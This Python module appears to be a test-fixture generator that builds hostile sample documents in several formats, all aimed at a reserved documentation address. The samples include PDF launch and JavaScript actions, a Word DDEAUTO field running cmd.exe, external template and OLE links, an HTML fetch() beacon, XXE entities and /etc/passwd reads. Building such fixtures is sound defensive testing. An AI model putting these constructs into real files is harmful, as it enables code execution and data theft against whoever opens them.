"""Documents that would like a reader to fetch, send, start or run something; made in code, all to one address."""

from __future__ import annotations

from pathlib import Path

import office_factory
import pdf_factory

SITE = "http://203.0.113.7/bronnen"  # an address that is nobody's (RFC 5737)
SHARE = r"\\203.0.113.7\share\a.docx"
TEXT = "Ouders vertellen dat zij lang wachten op hulp. Uit onderzoek van het CBS blijkt dat de vraag groeit."
TYPESET = '#image("/etc/passwd") #read("/etc/passwd") #sys.inputs #eval("1") @preview/x:1.0.0 \\#a $x$ *b*'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def written(folder: Path) -> list[str]:
    """Writes all of them; their names."""
    folder.mkdir()
    _word(folder / "sjabloon.docx")
    _open(folder / "plaatje.odt")
    _page(folder / "pagina.html")
    (folder / "tekst.md").write_text(
        f"# {TYPESET}\n\n![x]({SITE}/a.png)\n\n<img src='{SITE}'>\n\n{TEXT}\n\n[x]: {SITE}\n"
    )
    (folder / "tekst.txt").write_text(f"{TYPESET}\n\n{TEXT}\n\n{SITE}\n{SHARE}\n")
    for name, action in ACTIONS.items():
        (folder / f"{name}.pdf").write_bytes(_pdf(action))
    return sorted(one.name for one in folder.iterdir())


ACTIONS = {
    "uri": f"<< /S /URI /URI ({SITE}) >>",
    "launch": "<< /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >>",
    "submit": f"<< /S /SubmitForm /F << /FS /URL /F ({SITE}) >> >>",
    "script": f"<< /S /JavaScript /JS (app.launchURL\\('{SITE}'\\); this.submitForm\\('{SITE}'\\);) >>",
    "elsewhere": f"<< /S /GoToR /F ({SHARE.replace(chr(92), chr(92) * 2)}) /D [0 /Fit] >>",
    "import": f"<< /S /ImportData /F << /FS /URL /F ({SITE}) >> >>",
}


def _pdf(action: str) -> bytes:
    lines = [TEXT[:70], TEXT[70:], TYPESET[:60], SITE]
    made = pdf_factory.pdf(pdf_factory.Sheet(pdf_factory.paragraph(60, 700, lines)))
    return made.replace(b"/Type /Catalog", f"/Type /Catalog /OpenAction {action} /AA << /WC {action} >>".encode(), 1)


def _word(path: Path) -> None:
    picture = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{_RELS}" r:link="rId901"/></w:drawing></w:r></w:p>'
    )
    field = f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{SITE}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    dde = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    office_factory.word(path, office_factory.p(TYPESET, "Heading1") + office_factory.p(TEXT) + picture + field + dde)

    def link(members: dict[str, bytes]) -> None:
        outside = "".join(
            f'<Relationship Id="rId90{number}" Type="{_RELS}/{kind}" Target="{target}" TargetMode="External"/>'
            for number, (kind, target) in enumerate(
                [
                    ("attachedTemplate", f"{SITE}/a.dotm"),
                    ("image", f"{SITE}/a.png"),
                    ("oleObject", SHARE),
                    ("frame", SITE),
                ]
            )
        )
        name = "word/_rels/document.xml.rels"
        members[name] = members[name].replace(b"</Relationships>", f"{outside}</Relationships>".encode())
        members["word/_rels/settings.xml.rels"] = members[name]
        members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"

    office_factory.change(path, link)


def _open(path: Path) -> None:
    picture = (
        f'<draw:frame><draw:image xlink:href="{SITE}/a.png" xmlns:xlink="http://www.w3.org/1999/xlink"/></draw:frame>'
    )
    part = f'<text:section text:name="x"><text:section-source xlink:href="{SITE}" xmlns:xlink="http://www.w3.org/1999/xlink"/>'
    office_factory.open_text(path, f"<text:h>{TYPESET}</text:h><text:p>{TEXT}</text:p>{picture}{part}</text:section>")


def _page(path: Path) -> None:
    head = f"<base href='{SITE}/'><link rel=stylesheet href='{SITE}/a.css'><script src='{SITE}/a.js'></script>"
    head += f"<meta http-equiv=refresh content='0;url={SITE}'><link rel=canonical href='{SITE}'>"
    body = f"<h1>{TYPESET}</h1><p>{TEXT * 3}</p><img src='{SITE}/a.png' onerror='fetch(\"{SITE}\")'>"
    body += f"<iframe src='{SITE}'></iframe><object data='{SITE}'></object><video src='file:///etc/passwd'></video>"
    entity = f'<!DOCTYPE html [<!ENTITY x SYSTEM "{SITE}"><!ENTITY % y SYSTEM "{SITE}"> %y;]>'
    path.write_text(f"{entity}<html><head>{head}</head><body><article>{body}<p>&x;</p></article></body></html>")


def workbook(path: Path, name: str) -> Path:
    """Properties of documents, in a workbook with links to elsewhere."""
    from openpyxl import Workbook

    book = Workbook()
    for row in (["name", "organisatie"], [name, "Elsterhout"]):
        book.active.append(row)
    book.active["C5"].hyperlink = SITE
    book.save(path)
    target = f'<Relationship Id="rId9" Type="{_RELS}/externalLinkPath" Target="{SITE}/a.xlsx" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org"
    book_link = f'<externalBook xmlns:r="{_RELS}" r:id="rId9"/>'
    link = f'<externalLink xmlns="{space}/spreadsheetml/2006/main">{book_link}</externalLink>'

    def outside(members: dict[str, bytes]) -> None:
        members["xl/externalLinks/externalLink1.xml"] = link.encode()
        rels = f'<Relationships xmlns="{space}/package/2006/relationships">{target}</Relationships>'
        members["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels.encode()

    return office_factory.change(path, outside)
